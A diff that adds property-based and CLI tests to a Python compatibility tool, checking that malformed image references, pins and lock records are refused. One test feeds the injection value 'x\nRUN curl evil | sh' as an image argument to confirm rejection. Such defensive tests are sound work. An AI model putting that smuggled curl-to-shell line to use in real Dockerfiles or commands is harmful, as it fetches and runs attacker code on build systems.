@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import dataclasses
 import io
+import json
 import re
 import xml.etree.ElementTree as ET
 from datetime import date
@@ -16,20 +17,24 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from click.testing import CliRunner
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from packaging.utils import canonicalize_name
 from rich.console import Console
 
-from compat.cli import console
-from compat.errors import IndexUnavailable, LockError, MatrixError
+from compat.cli import cli, console
+from compat.cli.options import parse_pins
+from compat.errors import IndexUnavailable, LockError, MatrixError, UsageError
 from compat.index.parse import html_page_to_json, parse_project_page
 from compat.lock.dockerfile import render_dockerfile
 from compat.lock.requirements import render_requirements
+from compat.lock.write import RECORD, RECORD_FORMAT, read_lock
 from compat.matrix import _TOP_KEYS, load_matrix, parse_matrix
 from compat.model import Verdict
 from compat.report.junit import write_junit
 from compat.report.summary import Row
+from compat.targets.target import image_reference
 from tests.helpers.lock import make_lock
 from tests.helpers.report import make_result, make_target
 
@@ -233,3 +238,63 @@ def test_a_pin_with_a_broken_hash_or_file_name_is_refused() -> None:
         combo = dataclasses.replace(clean.combo, pins=pins)
         with pytest.raises(LockError, match="RUN evil"):
             dataclasses.replace(clean, combo=combo)
+
+
+@given(st.text(max_size=40) | st.sampled_from(NASTY))
+def test_an_image_reference_is_one_or_a_usage_error(text: str) -> None:
+    try:
+        image_reference(text)
+    except UsageError as exc:
+        refusal = str(exc)
+    else:
+        assert not any(c.isspace() or c in "\"'`$;|&<>" for c in text), text
+        return
+    assert "is not an image reference" in refusal
+
+
+@pytest.mark.parametrize(
+    "ref",
+    ["python:3.12-slim", "local/musl-python:3.11", "reg.example:5000/t/py@sha256:" + "a" * 64],
+)
+def test_real_image_references_are_taken(ref: str) -> None:
+    assert image_reference(ref) == ref
+
+
+@pytest.mark.parametrize("command", ["scan", "check", "lock", "image"])
+def test_every_command_refuses_a_malformed_image_before_doing_anything(command: str) -> None:
+    extra = ["numpy==2.0.2"] if command == "check" else []
+    done = CliRunner().invoke(cli, [command, "--image", "x\nRUN curl evil | sh", *extra])
+    assert done.exit_code == 2, done.output
+    assert "is not an image reference" in done.output
+
+
+@settings(max_examples=200)
+@given(st.lists(st.text(max_size=25) | st.sampled_from(NASTY), min_size=1, max_size=3))
+def test_pins_on_the_command_line_are_requirements_or_a_usage_error(args: list[str]) -> None:
+    try:
+        requirements = parse_pins(args)
+    except UsageError as exc:
+        refusal = str(exc)
+    else:
+        assert len(requirements) == len(args)
+        assert all("\n" not in r.name for r in requirements)
+        return
+    assert "is not a requirement" in refusal
+
+
+@settings(max_examples=200, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(
+    st.fixed_dictionaries(
+        {"format": st.just(RECORD_FORMAT)}, optional={"input": json_values, "prune": json_values}
+    )
+    | json_values
+)
+def test_a_damaged_lock_record_is_a_lock_error(tmp_path: Path, record: Any) -> None:
+    (tmp_path / RECORD).write_text(json.dumps(record), encoding="utf-8")
+    try:
+        read_lock(tmp_path)
+    except LockError as exc:
+        refusal = str(exc)
+    else:
+        return
+    assert RECORD in refusal
